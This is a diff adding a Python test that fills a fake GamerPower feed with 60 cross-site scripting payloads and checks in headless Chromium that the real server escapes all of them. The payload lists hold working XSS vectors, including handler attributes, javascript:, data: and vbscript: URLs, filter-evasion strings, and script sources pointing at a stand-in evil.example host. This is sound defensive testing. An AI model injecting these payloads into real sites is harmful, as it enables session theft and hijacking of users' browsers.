@@ -1,0 +1,116 @@
+"""Hostile upstream text: 60 XSS payloads planted in every text and URL field of a fake GamerPower feed, rendered
+by the real server in headless Chromium (Home, a search, every Details page, More, Favorites). Counts payloads
+that executed and unsafe markup that reached the DOM (event-handler attributes, foreign script/iframe/object/
+embed/base/meta elements, javascript:/data:/vbscript: links). The CSP would block inline script anyway, so the
+DOM is checked too: escaping must hold on its own. Usage: python3 xss.py"""
+import json
+import shutil
+import sys
+import tempfile
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "lib"))
+from harness import Server, post  # noqa: E402
+import fake_upstream  # noqa: E402
+
+TEMPLATES = [
+    "<script>window.__xss={k}</script>", "<img src=x onerror=window.__xss={k}>", "<svg onload=window.__xss={k}>",
+    "\"><script>window.__xss={k}</script>", "'><img src=x onerror=window.__xss={k}>", "</title><script>window.__xss={k}</script>",
+    "<iframe srcdoc=\"<script>parent.__xss={k}</script>\"></iframe>", "<details open ontoggle=window.__xss={k}>",
+    "<body onload=window.__xss={k}>", "<math><mi xlink:href=\"javascript:window.__xss={k}\">x</mi></math>",
+    "<a href=\"javascript:window.__xss={k}\">click</a>", "<a href=\"jav&#x09;ascript:window.__xss={k}\">tab</a>",
+    "<a href=\"&#106;avascript:window.__xss={k}\">ent</a>", "<a href=\" javascript:window.__xss={k}\">sp</a>",
+    "<a href=\"data:text/html,<script>window.__xss={k}</script>\">data</a>", "<a href='vbscript:msgbox({k})'>vb</a>",
+    "<object data=\"javascript:window.__xss={k}\"></object>", "<embed src=\"javascript:window.__xss={k}\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss={k}\">", "<base href=\"javascript:/\">",
+    "<style>*{{background:url('javascript:window.__xss={k}')}}</style>", "<input autofocus onfocus=window.__xss={k}>",
+    "<video><source onerror=window.__xss={k}></video>", "<marquee onstart=window.__xss={k}>m</marquee>",
+    "{{{{constructor.constructor('window.__xss={k}')()}}}}", "${{window.__xss={k}}}",
+    "<scr<script>ipt>window.__xss={k}</scr</script>ipt>", "<SCRIPT SRC=//evil.example/{k}.js></SCRIPT>",
+    "<img src=\"x\" onerror=\"window.__xss={k}\"/>", "<svg><script>window.__xss={k}</script></svg>",
+]
+URLS = [
+    "javascript:window.__xss={k}", "JaVaScRiPt:window.__xss={k}", " javascript:window.__xss={k}",
+    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==", "vbscript:msgbox({k})",
+    "https://example.com/\"><script>window.__xss={k}</script>", "//evil.example/{k}", "\\\\evil.example\\{k}",
+    "https://example.com/' onmouseover='window.__xss={k}", "java\u0000script:window.__xss={k}",
+]
+
+
+def feed(count):
+    items = []
+    for k in range(count):
+        text = TEMPLATES[k % len(TEMPLATES)].format(k=k + 1)
+        url = URLS[k % len(URLS)].format(k=k + 1)
+        items.append({
+            "id": 7000 + k, "title": f"Payload {k + 1} {text}", "worth": text[:20], "thumbnail": url, "image": url,
+            "description": f"{text} description {k + 1}", "instructions": f"1. {text}\r\n2. <a href=\"{url}\">link</a>",
+            "open_giveaway_url": url, "published_date": "2026-03-30 10:00:00", "type": text,
+            "platforms": f"PC, {text}", "end_date": text, "users": k, "status": text, "gamerpower_url": url,
+            "open_giveaway": url,
+        })
+    return json.dumps(items).replace("/", "\\/")
+
+
+CHECK = """
+const bad = [];
+if (window.__xss !== undefined) bad.push('executed ' + window.__xss);
+for (const el of document.querySelectorAll('*')) {
+  for (const attr of el.attributes) {
+    if (/^on/i.test(attr.name)) bad.push('handler ' + el.tagName + ' ' + attr.name);
+  }
+}
+for (const el of document.querySelectorAll('script')) {
+  if (!/^\\/static\\/app\\.js/.test(el.getAttribute('src') || '')) bad.push('script element');
+}
+for (const el of document.querySelectorAll('iframe, object, embed, base, body meta, main meta, main style, main svg:not([aria-hidden]) script'))
+  bad.push('element ' + el.tagName);
+for (const a of document.querySelectorAll('[href], [src]')) {
+  const value = (a.getAttribute('href') || a.getAttribute('src') || '').trim().toLowerCase();
+  if (/^(javascript|data|vbscript):/.test(value.replace(/[\\s\\u0000-\\u001f]/g, ''))) bad.push('unsafe link ' + value.slice(0, 40));
+}
+return bad;
+"""
+
+
+def main():
+    from selenium import webdriver
+    from selenium.webdriver.chrome.service import Service
+    count = 60
+    work = Path(tempfile.mkdtemp(prefix="gg-xss-"))
+    (work / "xss.json").write_text(feed(count))
+    upstream = fake_upstream.start(fixture=work / "xss.json")
+    server = Server(work / "db.sqlite", upstream=f"http://127.0.0.1:{upstream.server_port}/api")
+    server.wait_ready()
+    status = server.wait_synced()
+    assert status["giveaways"] == count, status
+    options = webdriver.ChromeOptions()
+    for argument in ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"]:
+        options.add_argument(argument)
+    if shutil.which("chromium"):
+        options.binary_location = shutil.which("chromium")
+    driver = webdriver.Chrome(service=Service(executable_path=shutil.which("chromedriver")), options=options)
+    problems, pages = [], 0
+    try:
+        driver.get(server.base + "/")
+        for k in range(0, count, 3):  # heart some, so Favorites renders payloads too
+            driver.execute_script(f"document.querySelector('[data-giveaway-id=\"{7000 + k}\"] .heart').click()")
+        paths = ["/", "/?q=payload", "/?q=script", "/more", "/favorites"] + [f"/giveaways/{7000 + k}" for k in range(count)]
+        for path in paths:
+            driver.get(server.base + path)
+            pages += 1
+            problems += [f"{path}: {p}" for p in driver.execute_script(CHECK)]
+    finally:
+        driver.quit()
+        server.stop()
+        upstream.shutdown()
+    print(f"{count} payloads in every upstream field, {pages} pages rendered in headless Chromium: "
+          f"{len(problems)} problems")
+    for problem in problems[:20]:
+        print("  " + problem)
+    print(f"xss: {0 if problems else 1} passed, {1 if problems else 0} failed")
+    sys.exit(1 if problems else 0)
+
+
+if __name__ == "__main__":
+    main()
